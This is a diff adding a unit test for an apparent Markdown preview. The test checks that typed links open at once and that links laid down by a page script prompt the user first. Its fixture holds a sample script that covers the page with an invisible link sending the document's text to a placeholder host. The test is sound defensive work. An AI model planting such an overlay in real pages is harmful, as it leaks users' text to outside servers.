@@ -248,6 +248,36 @@ TEST_F(PreviewTest, OpensLinksThatLeaveTheDocumentOutside) {
     EXPECT_EQ(alerts.count(), 1);
 }
 
+// A link the document gained as the user typed (put into the page by script,
+// not loaded with it) opens on one click; a link the page's own script laid
+// over the text is asked about first, and Cancel opens nothing.
+TEST_F(PreviewTest, OpensTheDocumentsLinksAtOnceAndAsksAboutAScriptsOwn) {
+    const QString text = "# Notes\n\nFirst paragraph.\n\n<script>\nfunction cover() {"
+                         " var a = document.createElement('a'); a.href = 'https://example.com/cover?d=' +"
+                         " encodeURIComponent(document.body.innerText); a.style.cssText ="
+                         " 'position:fixed;left:0;top:0;right:0;bottom:0'; document.body.appendChild(a); }\n"
+                         "</script>\n";
+    open(text);
+    int loads = 0;
+    QObject::connect(&view->controller(), &PreviewController::pageLoaded, [&] { loads++; });
+    view->updatePreview(convert(text + "\nSee [the new page](https://example.com/new).\n"));
+    ASSERT_TRUE(settled(2));
+    ASSERT_EQ(loads, 0);  // it came by script
+    ASSERT_TRUE(clickElement(*view, "a[href=\"https://example.com/new\"]"));
+    ASSERT_TRUE(waitUntil([&] { return opened.size() == 1; }));
+    EXPECT_EQ(opened.last(), QUrl("https://example.com/new"));
+    EXPECT_EQ(alerts.count(), 0);
+
+    evaluate(*view, "cover()");
+    alerts.addAnswers({1});
+    ASSERT_TRUE(clickElement(*view, "h1"));
+    ASSERT_TRUE(waitUntil([&] { return alerts.count() == 1; }));
+    pause(500);
+    EXPECT_EQ(opened.size(), 1);
+    ASSERT_EQ(told("Open this address?").size(), 1);
+    EXPECT_TRUE(told("Open this address?").first().startsWith("https://example.com/cover?d=Notes"));
+}
+
 // A relative link resolves against the document's real folder, wherever it
 // leads: out of doc/ it opens the file above, not its namesake in doc/; one
 // to a file that is not there is refused and the user told once. A picture
